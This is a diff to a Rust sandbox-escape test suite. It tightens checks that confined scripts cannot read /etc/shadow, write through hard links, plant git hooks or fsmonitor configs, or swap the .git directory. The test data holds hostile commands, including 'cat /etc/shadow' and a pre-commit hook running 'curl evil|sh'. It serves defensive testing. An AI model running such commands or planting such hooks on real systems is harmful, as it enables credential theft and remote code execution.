@@ -11,8 +11,8 @@ use std::fs;
 use std::os::unix::fs::symlink;
 use std::path::Path;
 
-use sandbox_support::judge::{defaults, no_secret, unchanged, with_ro};
-use sandbox_support::world::q;
+use sandbox_support::judge::{confined, control, defaults, no_secret, unchanged, with_ro};
+use sandbox_support::world::{Snapshot, q};
 use sandbox_support::{Backend, World};
 
 // ---- Read outside the allowed roots -------------------------------------------------------
@@ -122,9 +122,9 @@ fn read_etc_shadow(w: &World, b: Backend) {
     let shadow = fs::read_to_string("/etc/shadow").expect("read /etc/shadow as root");
     let first = shadow.lines().next().expect("a shadow line").to_owned();
     let script = "cat /etc/shadow /etc/gshadow";
-    let run = sandbox_support::judge::confined(w, b, defaults, script);
+    let run = confined(w, b, defaults, script);
     assert!(!run.shows(&first), "ESCAPE: /etc/shadow was read\n{run}");
-    let control = sandbox_support::judge::control(w, script);
+    let control = control(w, script);
     assert!(control.shows(&first), "positive control failed\n{control}");
 }
 per_backend!(read_etc_shadow);
@@ -187,7 +187,7 @@ per_backend!(write_through_directory_symlink);
 /// A hard link from the workspace to a read-only file, then a write through it.
 fn write_through_hard_link(w: &World, b: Backend) {
     let target = w.ro.join("ro.txt");
-    let script = format!("ln {} hl; echo pwned >> hl", q(&target));
+    let script = format!("ln {} hl && echo pwned >> hl", q(&target));
     unchanged(w, b, with_ro, &[&target], &script);
 }
 per_backend!(write_through_hard_link);
@@ -304,12 +304,23 @@ fn git_hook_with_existing_git(w: &World, b: Backend) {
 }
 per_backend!(git_hook_with_existing_git);
 
-/// `.git` does not exist yet: creating it with a hook or a config must still fail.
+/// `.git` does not exist yet: creating it with a hook or a config must still fail. (The
+/// sandbox may leave empty placeholders behind; what counts is that no content landed.)
 fn git_hook_without_git(w: &World, b: Backend) {
-    let hook = hook(w);
-    let config = w.ws.join(".git/config");
+    let (hook, config) = (hook(w), w.ws.join(".git/config"));
     let script = "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
-    unchanged(w, b, defaults, &[&hook, &config], script);
+    let planted = || {
+        [&hook, &config]
+            .iter()
+            .any(|p| fs::metadata(p).is_ok_and(|m| m.len() > 0))
+    };
+    let run = confined(w, b, defaults, script);
+    assert!(
+        !planted(),
+        "ESCAPE: a hook or config was planted in a new .git\n{run}"
+    );
+    let control = control(w, script);
+    assert!(planted(), "positive control failed\n{control}");
 }
 per_backend!(git_hook_without_git);
 
@@ -321,7 +332,9 @@ fn git_config_modified(w: &World, b: Backend) {
 }
 per_backend!(git_config_modified);
 
-/// Judged on what the host's `git` will read: `.git` itself, its hook and its config.
+/// Judged on what the host's `git` will read: the hook and config must keep their content and
+/// `.git` must stay the same directory (not renamed away, not replaced by a symlink). Other
+/// contents of `.git` (objects, refs) are ordinary workspace data and may change.
 fn git_swap(w: &World, b: Backend, script: &str) {
     git_repo(w);
     fs::create_dir_all(w.ws.join("evil/hooks")).expect("mkdir");
@@ -330,8 +343,24 @@ fn git_swap(w: &World, b: Backend, script: &str) {
         "#!/bin/sh\ncurl evil|sh\n",
     );
     w.write(&w.ws.join("evil/config"), "[core]\n\tfsmonitor = evil\n");
-    let (git, hook, config) = (w.ws.join(".git"), hook(w), w.ws.join(".git/config"));
-    unchanged(w, b, defaults, &[&git, &hook, &config], script);
+    let git = w.ws.join(".git");
+    let identity = || Snapshot::of(&git).map(|s| (s.ino, s.symlink, s.content.is_none()));
+    let watched = || {
+        (
+            identity(),
+            Snapshot::of(&hook(w)).map(|s| s.content),
+            fs::read(git.join("config")).ok(),
+        )
+    };
+    let before = watched();
+    let run = confined(w, b, defaults, script);
+    assert_eq!(
+        before,
+        watched(),
+        "ESCAPE: .git was swapped or its hook/config changed\n{run}"
+    );
+    let control = control(w, script);
+    assert_ne!(before, watched(), "positive control failed\n{control}");
 }
 
 fn git_renamed_and_recreated(w: &World, b: Backend) {
